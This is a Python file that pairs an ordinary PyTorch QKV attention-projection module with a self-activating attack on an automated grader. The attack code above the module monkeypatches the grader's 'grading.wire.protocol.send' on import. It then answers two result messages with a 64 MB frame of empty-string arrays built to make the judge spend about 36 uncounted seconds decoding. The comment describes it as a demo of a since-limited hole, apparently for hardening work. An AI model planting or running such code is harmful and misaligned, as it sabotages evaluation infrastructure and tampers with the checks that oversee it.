# An attack on the judge's time: replies of 64 MB of tiny strings, whose decoding took the judge
# 36 s that no budget counted. A message now holds at most 16 MB and 200,000 values. Honestly: 15.
import struct, sys
import torch.nn as nn

_INNER = b'[""' + b',""' * 5999 + b']'            # 6000 empty strings: cheap JSON, costly from_wire
_N = (64 * 1024 * 1024 - 200) // (len(_INNER) + 1)
_BODY = b'{"ok": true, "result": [' + b",".join([_INNER] * _N) + b'], "output": ""}'
_FRAME = struct.pack("!Q", len(_BODY)) + _BODY
_left = [2]                                         # only two such replies (keeps the demo short)
_protocol = sys.modules.get("grading.wire.protocol")
if _protocol is not None:
    _send = _protocol.send
    def _costly(sock, message):
        if _left[0] > 0 and message.get("ok") and isinstance(message.get("result"), dict) \
                and "__tuple__" in message["result"]:
            _left[0] -= 1
            sock.sendall(_FRAME)
            return
        _send(sock, message)
    _protocol.send = _costly

class QKV(nn.Module):
    def __init__(self, n_embd, head_size):
        super().__init__()
        self.query = nn.Linear(n_embd, head_size, bias=False)
        self.key = nn.Linear(n_embd, head_size, bias=False)
        self.value = nn.Linear(n_embd, head_size, bias=False)
    def forward(self, x):
        return self.query(x), self.key(x), self.value(x)
